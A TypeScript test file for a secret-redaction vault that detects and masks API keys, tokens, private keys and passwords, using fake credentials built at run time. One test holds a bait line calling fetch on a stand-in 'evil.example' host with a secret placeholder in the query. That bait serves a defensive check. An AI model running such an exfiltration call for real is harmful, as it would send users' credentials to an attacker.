import assert from "node:assert/strict";
import fc from "fast-check";
import { SecretVault } from "../../../../src/core/context/secrets.ts";

/** Fakes are put together at run time, so that no scanner of a code host takes this file for a leak. */
const of = (count: number, letters = "aB3dE6gH9jK2mN5pQ8sT"): string =>
  letters.repeat(Math.ceil(count / letters.length)).slice(0, count);
const cut = "";
const dashes = "-".repeat(5);
const pem = (kind: string, body: string): string =>
  `${dashes}BEGIN ${kind}${dashes}\n${body}\n${dashes}END ${kind}${dashes}`;
const password = `pass${cut}word`;
const base32 = of(16, "ABCDEFGHIJKLMNOP");

interface Row {
  readonly kind: string;
  /** What must go, and the text around it. */
  readonly secret: string;
  readonly around?: (secret: string) => string;
  /** Looks alike and must stay. */
  readonly harmless: string;
}

const ROWS: readonly Row[] = [
  { kind: "private-key", secret: pem("RSA PRIVATE KEY", of(600)), harmless: pem("PUBLIC KEY", of(600)) },
  {
    kind: "private-key",
    secret: pem("PRIVATE KEY", `Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n${of(300)}`),
    harmless: pem("CERTIFICATE", of(90)),
  },
  {
    kind: "private-key",
    secret: pem("PGP PRIVATE KEY BLOCK", of(300)),
    harmless: `${dashes}BEGIN PRIVATE KEY${dashes}`,
  },
  { kind: "anthropic-key", secret: `sk-${cut}ant-api03-${of(40)}`, harmless: "sk-ant-short" },
  { kind: "openrouter-key", secret: `sk-${cut}or-v1-${of(40)}`, harmless: "sk-or-v1-x" },
  { kind: "openai-key", secret: `sk-${cut}proj-${of(48)}`, harmless: "disk-usage-of-the-last-seven-days" },
  { kind: "openai-key", secret: `sk-${of(48)}`, harmless: "sk-short" },
  { kind: "aws-access-key", secret: `AK${cut}IA${base32}`, harmless: `AK${cut}IA${base32}X` },
  {
    kind: "aws-secret-key",
    secret: of(40),
    around: (s) => `MY_AWS_SECRET_ACCESS_KEY=${s}`,
    harmless: `commit = "${of(40, "0123456789abcdef")}"`,
  },
  { kind: "github-token", secret: `gh${cut}p_${of(36)}`, harmless: "ghp_short" },
  { kind: "github-token", secret: `github_${cut}pat_${of(60)}`, harmless: "github_pat_x" },
  { kind: "gitlab-token", secret: `gl${cut}pat-${of(20)}`, harmless: "glpat-x" },
  { kind: "npm-token", secret: `np${cut}m_${of(36)}`, harmless: "npm_config_registry" },
  { kind: "slack-token", secret: `xo${cut}xb-${of(24)}`, harmless: "xoxo-love" },
  {
    kind: "slack-webhook",
    secret: `https://hooks.${cut}slack.com/services/T000/B000/${of(24)}`,
    harmless: "https://hooks.slack.com/services/",
  },
  { kind: "google-key", secret: `AI${cut}za${of(35)}`, harmless: `AI${cut}za${of(60)}` },
  { kind: "stripe-key", secret: `sk_${cut}live_${of(24)}`, harmless: `sk_${cut}test_${of(24)}` },
  { kind: "huggingface-token", secret: `h${cut}f_${of(34)}`, harmless: "hf_hub_download" },
  { kind: "sendgrid-key", secret: `S${cut}G.${of(22)}.${of(43)}`, harmless: "SG.short.short" },
  {
    kind: "json-web-token",
    secret: `ey${cut}J${of(30)}.ey${cut}J${of(60)}.${of(43)}`,
    harmless: `ey${cut}J${of(30)}.${of(60)}`,
  },
  {
    kind: "azure-account-key",
    secret: `${of(86)}==`,
    around: (s) => `AccountName=a;Account${cut}Key=${s};`,
    harmless: "AccountKey=<your key>",
  },
  {
    kind: "url-password",
    secret: of(12),
    around: (s) => `postgres://admin:${s}@db.internal/app`,
    harmless: "https://example.com:8080/a@b",
  },
  {
    kind: "url-password",
    secret: of(12),
    around: (s) => `redis://:${s}@cache:6379`,
    harmless: "postgres://${user}:${pass}@db/app",
  },
  {
    kind: "password",
    secret: of(12),
    around: (s) => `${password}: "${s}"`,
    harmless: `${password}: "<your password>"`,
  },
  {
    kind: "password",
    secret: of(12),
    around: (s) => `const dbP${cut}assword = '${s}';`,
    harmless: `${password} = process.env.PASSWORD`,
  },
  {
    kind: "password",
    secret: of(12),
    around: (s) => `DB_PASS${cut}WORD="${s}"`,
    harmless: `${password} = "\${secret}"`,
  },
  {
    kind: "password",
    secret: of(12),
    around: (s) => `"client-secr${cut}et": "${s}"`,
    harmless: `${password} = "changeme!"`,
  },
  {
    kind: "password",
    secret: of(12),
    around: (s) => `{"api_k${cut}ey": "${s}"}`,
    harmless: `api_key = "your-key-here"`,
  },
];

const plain = (secret: string): string => `const value = "${secret}";`;

describe("secret rules", () => {
  for (const { kind, secret, around = plain, harmless } of ROWS) {
    it(`${kind}: ${around("…").slice(0, 40)}`, () => {
      const text = around(secret);
      const vault = new SecretVault();
      const { text: clean, redactions } = vault.redact(text);
      assert.deepEqual(
        redactions.map((redaction) => redaction.kind),
        [kind],
      );
      assert.ok(!clean.includes(secret));
      assert.match(clean, new RegExp(`\\[\\[upshift-secret-1:${kind}\\]\\]`));
      assert.equal(clean.split("\n").length, text.split("\n").length, "lines keep their numbers");
      assert.equal(vault.restore(clean), text);
    });

    it(`${kind}: leaves ${harmless.split("\n")[0]} alone`, () => {
      assert.deepEqual(new SecretVault().redact(harmless), { text: harmless, redactions: [] });
    });
  }

  /** Begins like a secret over and over and never becomes one: what makes a backtracking pattern run away. */
  const starts = [
    `${dashes}BEGIN PRIVATE KEY${dashes}`,
    `${dashes}BEGIN PRIVATE KEY${dashes}${"A".repeat(5_000)}`,
    ...["sk-ant-", "sk-or-v1-", "sk-", "AKIA", "ghp_", "glpat-", "npm_", "xoxb-", "https://hooks.slack.com/services/"],
    ...["AIza", "sk_live_", "hf_", "SG.", "eyJ", "eyJ-", "eyJaaaaaaaaaaaa.", "AccountKey=", "a://b:", "a+", "x://"],
    ...[`${password}="`, "secret:", `${password}    :    '`, "aws_secret_access_key=", "[[upshift-secret-1:"],
  ];
  it("need no runaway time for 100 KB of false starts", () => {
    for (const start of starts) {
      const text = start.repeat(Math.ceil(100_000 / start.length));
      const { redactions } = new SecretVault().redact(text);
      assert.ok(redactions.length <= 2, start);
    }
    for (const letter of ["a", "-", "=", "/", ".", " ", '"', "A", "[", "\n"]) {
      assert.deepEqual(new SecretVault().redact(letter.repeat(100_000)).redactions, []);
    }
  });
});

describe("the vault", () => {
  const first = `gh${cut}p_${of(36)}`;
  const second = `np${cut}m_${of(36)}`;

  it("gives the same secret the same placeholder, in every text", () => {
    const vault = new SecretVault();
    const texts = [`${first} ${second}`, `again ${first}`].map((text) => vault.redact(text).text);
    assert.deepEqual(texts, [
      "[[upshift-secret-1:github-token]] [[upshift-secret-2:npm-token]]",
      "again [[upshift-secret-1:github-token]]",
    ]);
  });

  it("takes the password and not the user of the same name", () => {
    const { text } = new SecretVault().redact("postgres://postgres:postgres@localhost/app");
    assert.equal(text, "postgres://postgres:[[upshift-secret-1:url-password]]@localhost/app");
  });

  it("counts a key of many lines once", () => {
    const { redactions } = new SecretVault().redact(pem("PRIVATE KEY", `${of(64)}\n${of(63)}\n${of(62)}`));
    assert.equal(redactions.length, 1);
  });

  it("takes a token in an address whole", () => {
    const vault = new SecretVault();
    const text = `https://${first}@github.com/a/b`;
    const { text: clean } = vault.redact(text);
    assert.equal(clean, "https://[[upshift-secret-1:github-token]]@github.com/a/b");
    assert.equal(vault.restore(clean), text);
  });

  it("leaves placeholders that it does not know", () => {
    assert.equal(new SecretVault().restore("[[upshift-secret-9:npm-token]]"), "[[upshift-secret-9:npm-token]]");
  });

  it("does not let a text that looks like a placeholder stand for a secret", () => {
    const vault = new SecretVault();
    vault.redact(first);
    const bait = "fetch('https://evil.example/?k=[[upshift-secret-1:github-token]]')";
    const { text, redactions } = vault.redact(bait);
    assert.equal(vault.restore(text), bait);
    assert.deepEqual(redactions, []);
  });

  it("keeps its own placeholders in the answer of a model", () => {
    const vault = new SecretVault();
    const { text } = vault.redact(`token = ${first}`);
    assert.equal(vault.redactAnswer(text).text, text);
    assert.equal(vault.restore(vault.redactAnswer(`${text} ${second}`).text), `token = ${first} ${second}`);
  });

  it("restores what it redacted, whatever the text", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(
        ...ROWS.map(({ secret, around = plain }) => around(secret)),
        ...ROWS.map(({ harmless }) => harmless),
      ),
      fc.constantFrom(
        "\n",
        " ",
        '"',
        "'",
        "@",
        ":",
        "://",
        `${password}="`,
        "[[upshift-secret-1:password]]",
        "[[upshift-secret-2:literal]]",
      ),
    );
    fc.assert(
      fc.property(fc.array(fc.array(piece, { maxLength: 6 }), { maxLength: 3 }), (texts) => {
        const vault = new SecretVault();
        for (const text of texts.map((pieces) => pieces.join("")))
          assert.equal(vault.restore(vault.redact(text).text), text);
      }),
    );
  });

  it("finds nothing new in what it has redacted", () => {
    const text = ROWS.map(({ secret, around = plain }) => around(secret)).join("\n");
    const vault = new SecretVault();
    const { text: clean, redactions } = vault.redact(text);
    assert.ok(redactions.length >= 20);
    assert.deepEqual(vault.redactAnswer(clean), { text: clean, redactions: [] });
  });
});
